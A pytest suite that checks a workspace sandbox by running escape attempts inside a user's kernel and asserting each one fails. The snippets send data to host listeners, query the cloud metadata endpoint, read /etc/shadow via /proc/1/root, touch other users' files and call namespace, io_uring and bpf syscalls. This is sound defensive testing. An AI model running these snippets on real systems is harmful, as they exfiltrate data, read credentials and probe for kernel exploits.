"""Attacks from inside a running workspace: kernel code that tries to get data out or reach what it must not.

Each case names the line of DESIGN.md "Threat model" it covers and must FAIL inside the
sandbox. The code runs in alice's kernel through the real hub and proxy; the host-side
listeners are started by the test, so a success would be observed on both ends.
"""

from __future__ import annotations

import socket
import threading
import time

import pytest

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def kernel(campus_hub):
    session = campus_hub.session("alice")
    assert session.spawn().status_code < 400
    kernel = session.kernel()
    yield kernel
    kernel.close()
    session.stop()


@pytest.fixture(scope="module")
def host_listeners():
    """A TCP and a UDP listener on the host (all interfaces); records anything that arrives."""
    received: list[bytes] = []
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("0.0.0.0", 0))
    tcp.listen()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    tcp.settimeout(0.5)
    udp.settimeout(0.5)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = tcp.accept()
                received.append(conn.recv(100))
                conn.close()
            except OSError:
                pass
            try:
                received.append(udp.recv(100))
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    host_ip = _host_address()
    yield {"tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1], "ip": host_ip, "received": received}
    stop.set()
    thread.join(2)
    tcp.close()
    udp.close()


def _host_address() -> str:
    """The host's own non-loopback address (a UDP "connect" sends nothing, it picks the route)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))  # TEST-NET-1: never routed anywhere real
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


def attempt(kernel, code: str) -> tuple[str, str | None]:
    """Run attack code; it prints OK only if the attack worked."""
    return kernel.run(code)


def assert_blocked(result: tuple[str, str | None]) -> None:
    out, error = result
    assert "OK" not in out, f"attack succeeded: {out!r}"
    assert error is not None or "BLOCKED" in out, f"no failure seen: {out!r}"


def test_network_egress_tcp_to_host_listener(kernel, host_listeners):
    """Threat model: network egress from a workspace (TCP)."""
    for ip in ("127.0.0.1", host_listeners["ip"]):
        assert_blocked(
            attempt(kernel, f"import socket\ns = socket.create_connection(('{ip}', {host_listeners['tcp']}), timeout=3)\ns.send(b'leak')\nprint('OK')")
        )
    assert host_listeners["received"] == []


def test_network_egress_udp_to_host_listener(kernel, host_listeners):
    """Threat model: network egress from a workspace (UDP).

    To the host's address there is no route (ENETUNREACH). To 127.0.0.1 a datagram is
    "sent" without error, but on the sandbox's own loopback: the host listener must get nothing.
    """
    send = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'leak', ('{ip}', {port}))\nprint('OK')"
    if host_listeners["ip"] != "127.0.0.1":
        assert_blocked(attempt(kernel, send.format(ip=host_listeners["ip"], port=host_listeners["udp"])))
    kernel.run(send.format(ip="127.0.0.1", port=host_listeners["udp"]))
    time.sleep(1.0)
    assert host_listeners["received"] == []


def test_network_only_loopback_interface(kernel):
    """Threat model: network egress (there is no interface but lo to send from)."""
    out, error = kernel.run("import socket; print(sorted(n for _, n in socket.if_nameindex()))")
    assert error is None and out.strip() == "['lo']"


@pytest.mark.parametrize("name", ["example.com", "pypi.org", "metadata.google.internal"])
def test_dns_resolution(kernel, name):
    """Threat model: network egress (DNS)."""
    assert_blocked(attempt(kernel, f"import socket; socket.getaddrinfo('{name}', 80); print('OK')"))


@pytest.mark.parametrize("address", ["169.254.169.254", "fd00:ec2::254"])
def test_cloud_metadata_address(kernel, address):
    """Threat model: network egress (cloud metadata)."""
    family = "AF_INET6" if ":" in address else "AF_INET"
    code = f"import socket\ns = socket.socket(socket.{family})\ns.settimeout(3)\ns.connect(('{address}', 80))\nprint('OK')"
    assert_blocked(attempt(kernel, code))


@pytest.mark.parametrize(
    "code",
    [
        "print(open('/data/store_sales/manifest.json').read()); print('OK')",
        "import os; print(os.listdir('/data/store_sales')); print('OK')",
        "import duckdb; duckdb.sql(\"select * from '{root}/store_sales/*.parquet'\").fetchall(); print('OK')",
        "print(open('{root}/store_sales/manifest.json').read()); print('OK')",
    ],
    ids=["mount-path", "listing", "duckdb-host-path", "host-path"],
)
def test_reading_an_ungranted_dataset(kernel, campus_hub, code):
    """Threat model: reading datasets not granted."""
    assert_blocked(attempt(kernel, code.replace("{root}", str(campus_hub.settings.data_root))))


@pytest.mark.parametrize(
    "code",
    [
        "open('/data/card_spending/card_spending.parquet', 'ab').write(b'x'); print('OK')",
        "open('/data/card_spending/new.csv', 'w').write('x'); print('OK')",
        "import os; os.remove('/data/card_spending/manifest.json'); print('OK')",
        "import os; os.chmod('/data/card_spending/manifest.json', 0o666); print('OK')",
    ],
    ids=["append", "create", "delete", "chmod"],
)
def test_writing_to_a_granted_dataset(kernel, code):
    """Threat model: writing to datasets."""
    assert_blocked(attempt(kernel, code))


@pytest.mark.parametrize(
    "code",
    [
        "import os; print(os.listdir('/home/bob')); print('OK')",
        "import os; print('OK' if os.listdir('/home') != ['alice'] else 'BLOCKED')",
        "print(open('{homes}/bob/notes.txt').read()); print('OK')",
        "import os; print(os.listdir('{homes}')); print('OK')",
    ],
    ids=["sandbox-path", "list-homes", "host-path", "list-host-homes"],
)
def test_reading_another_users_home(kernel, campus_hub, code):
    """Threat model: reading other users' homes."""
    homes = campus_hub.settings.homes_root
    (homes / "bob").mkdir(parents=True, exist_ok=True)
    assert_blocked(attempt(kernel, code.replace("{homes}", str(homes))))


@pytest.mark.parametrize(
    "code",
    [
        # The host's processes (the hub, OPA) are not in the sandbox's PID namespace.
        "import os; pids = [p for p in os.listdir('/proc') if p.isdigit()]; print('OK' if len(pids) > 20 else 'BLOCKED', len(pids))",
        # PID 1 is bubblewrap's init, not the host's: its root is the sandbox's root.
        "import os; print('OK' if os.path.exists('/proc/1/root/etc/shadow') else 'BLOCKED')",
        "print(open('/proc/1/root/etc/shadow').read()); print('OK')",
        "import os; print(os.listdir('/proc/1/cwd')); print('OK')",
        "open('/proc/sys/kernel/hostname', 'w').write('x'); print('OK')",
        "open('/proc/sysrq-trigger', 'w').write('h'); print('OK')",
    ],
    ids=["host-pids", "pid1-root", "pid1-root-read", "pid1-cwd", "sysctl-write", "sysrq"],
)
def test_escaping_through_proc(kernel, code):
    """Threat model: reading other users' homes / datasets not granted, via the host's /proc."""
    assert_blocked(attempt(kernel, code))


def test_no_privileges_inside(kernel):
    """Threat model: writing to datasets (no capability could remount them read-write)."""
    out, error = kernel.run(
        "import os; caps = [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')]; print(os.getuid(), caps)"
    )
    assert error is None
    uid, caps = out.split(None, 1)
    assert int(uid) >= 30000 and "0000000000000000" in caps
    assert_blocked(attempt(kernel, "import subprocess; subprocess.run(['mount', '-o', 'remount,rw', '/data/card_spending'], check=True); print('OK')"))


# Kernel interfaces the seccomp filter refuses (hub/spawner/seccomp.py). Each snippet prints
# "OK <result>" if the call worked, else "BLOCKED <errno name>". Without the filter every one
# of them works for an unprivileged process on this kernel (checked when the filter was
# written), except where noted.
_CALL = (
    "import ctypes, errno, os\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "def report(rc):\n"
    "    print('OK', rc) if rc >= 0 else print('BLOCKED', errno.errorcode[ctypes.get_errno()])\n"
)
REFUSED_CALLS = {
    # a user namespace: "root" inside, with every capability over its own namespaces
    "unshare user namespace": _CALL + "report(libc.unshare(0x10000000))",
    "unshare user and network namespaces": _CALL + "report(libc.unshare(0x10000000 | 0x40000000))",
    "unshare command": (
        "import subprocess\nr = subprocess.run(['unshare', '--user', '--map-root-user', 'id', '-u'], capture_output=True, text=True)\n"
        "print('OK' if r.returncode == 0 else 'BLOCKED EPERM' if 'Operation not permitted' in r.stderr else r.stderr)"
    ),
    # clone() with a namespace flag; a child that did start leaves at once
    "clone new user namespace": _CALL + "rc = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\nif rc == 0:\n    os._exit(0)\nreport(rc)",
    "clone new pid namespace": _CALL + "rc = libc.syscall(56, 0x20000000 | 0x10000000 | 17, 0, 0, 0, 0)\nif rc == 0:\n    os._exit(0)\nreport(rc)",
    "io_uring_setup": _CALL + "params = ctypes.create_string_buffer(120)\nreport(libc.syscall(425, 8, params))",
    "userfaultfd": _CALL + "report(libc.syscall(323, 1 | os.O_CLOEXEC))",  # UFFD_USER_MODE_ONLY
    "keyctl": _CALL + "report(libc.syscall(250, 0, ctypes.c_int(-3), 1))",  # KEYCTL_GET_KEYRING_ID, session
    "perf_event_open": (
        _CALL + "attr = (ctypes.c_uint32 * 32)()\nattr[0], attr[1] = 1, 128  # PERF_TYPE_SOFTWARE, size\n"
        "report(libc.syscall(298, attr, 0, -1, -1, 0))"
    ),
    # unprivileged eBPF is also off on this kernel (kernel.unprivileged_bpf_disabled)
    "bpf": _CALL + "attr = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY\nreport(libc.syscall(321, 0, attr, 128))",
}


@pytest.mark.parametrize("code", REFUSED_CALLS.values(), ids=REFUSED_CALLS.keys())
def test_kernel_interfaces_outside_analysis_are_refused(kernel, code):
    """Threat model: kernel attack surface (a new user namespace or io_uring is the usual
    first step of a kernel exploit). Refused with EPERM, never a kill."""
    out, error = kernel.run(code)
    assert error is None and out.split() == ["BLOCKED", "EPERM"], (out, error)


def test_clone3_says_not_implemented_so_threads_fall_back_to_clone(kernel):
    """clone3 hides its flags from the filter: it answers ENOSYS and the C library uses
    clone, whose flags are checked. Threads and processes still start (DuckDB, Dask)."""
    out, error = kernel.run(
        _CALL + "report(libc.syscall(435, None, 0))\n"
        "import duckdb, threading, multiprocessing\n"
        "t = threading.Thread(target=lambda: None); t.start(); t.join()\n"
        "with multiprocessing.get_context('spawn').Pool(2) as pool:\n"
        "    assert pool.map(abs, [-1, -2]) == [1, 2]\n"
        "print(duckdb.sql('select count(*) from range(1000000)').fetchall()[0][0])\n"
    )
    assert error is None and out.split() == ["BLOCKED", "ENOSYS", "1000000"], (out, error)
